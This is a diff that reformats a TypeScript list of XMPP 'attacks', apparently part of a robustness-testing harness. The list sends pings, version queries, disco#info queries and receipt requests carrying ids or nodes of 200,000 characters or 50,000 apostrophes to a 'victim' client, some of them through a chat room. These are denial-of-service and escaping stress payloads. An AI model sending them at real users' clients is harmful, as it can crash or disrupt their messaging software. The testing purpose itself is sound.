@@ -32,52 +32,46 @@ const ask = ({ victim, write }: Scene, kind: keyof typeof requests, name: string
   write(`<iq type="${isSet(kind) ? "set" : "get"}" id="${name}" to="${to}">${requests[kind]}</iq>`);
 
 export const answers: Attack[] = [
-  ...(Object.keys(requests) as (keyof typeof requests)[]).map(
-    (kind): Attack => ({
-      name: `${kind} with an id of 230,000 characters`,
-      where: "IQ",
-      send: (scene) => ask(scene, kind, LONG()),
-    }),
-  ),
-  ...Object.entries(ids).slice(1).map(
-    ([what, name]): Attack => ({
+  ...(Object.keys(requests) as (keyof typeof requests)[]).map((kind): Attack => ({
+    name: `${kind} with an id of 230,000 characters`,
+    where: "IQ",
+    send: (scene) => ask(scene, kind, LONG()),
+  })),
+  ...Object.entries(ids)
+    .slice(1)
+    .map(([what, name]): Attack => ({
       name: `ping and time with ${what}`,
       where: "IQ",
       send: (scene) => {
         ask(scene, "ping", name());
         ask(scene, "time", name());
       },
-    }),
-  ),
-  ...(["ping", "disco#info", "version"] as const).map(
-    (kind): Attack => ({
-      name: `${kind} through a room with an id of 230,000 characters`,
-      where: "room message",
-      send: (scene) => ask(scene, kind, LONG(), `${scene.room}/${scene.victim.nickname}`),
-    }),
-  ),
+    })),
+  ...(["ping", "disco#info", "version"] as const).map((kind): Attack => ({
+    name: `${kind} through a room with an id of 230,000 characters`,
+    where: "room message",
+    send: (scene) => ask(scene, kind, LONG(), `${scene.room}/${scene.victim.nickname}`),
+  })),
   {
     name: "disco#info with a node of 200,000 characters",
     where: "IQ",
     send: ({ victim, write }) =>
       write(
-        `<iq type="get" id="${id()}" to="${victim.full}"><query xmlns="http://jabber.org/protocol/disco#info" node="${
-          "n".repeat(200_000)
-        }"/></iq>`,
+        `<iq type="get" id="${id()}" to="${victim.full}"><query xmlns="http://jabber.org/protocol/disco#info" node="${"n".repeat(
+          200_000,
+        )}"/></iq>`,
       ),
   },
-  ...(["a".repeat(200_000), "'".repeat(50_000)] as const).map(
-    (name, at): Attack => ({
-      name: `a message that asks for a receipt, with an id of ${["200,000 characters", "50,000 apostrophes"][at]}`,
-      where: "direct message",
-      send: (scene) =>
-        toVictim(
-          scene,
-          `<body>hello</body><request xmlns="urn:xmpp:receipts"/><markable xmlns="urn:xmpp:chat-markers:0"/>`,
-          `type="chat" id="${name}"`,
-        ),
-    }),
-  ),
+  ...(["a".repeat(200_000), "'".repeat(50_000)] as const).map((name, at): Attack => ({
+    name: `a message that asks for a receipt, with an id of ${["200,000 characters", "50,000 apostrophes"][at]}`,
+    where: "direct message",
+    send: (scene) =>
+      toVictim(
+        scene,
+        `<body>hello</body><request xmlns="urn:xmpp:receipts"/><markable xmlns="urn:xmpp:chat-markers:0"/>`,
+        `type="chat" id="${name}"`,
+      ),
+  })),
   {
     name: "a presence and a subscription request with an id of 200,000 characters",
     where: "presence",
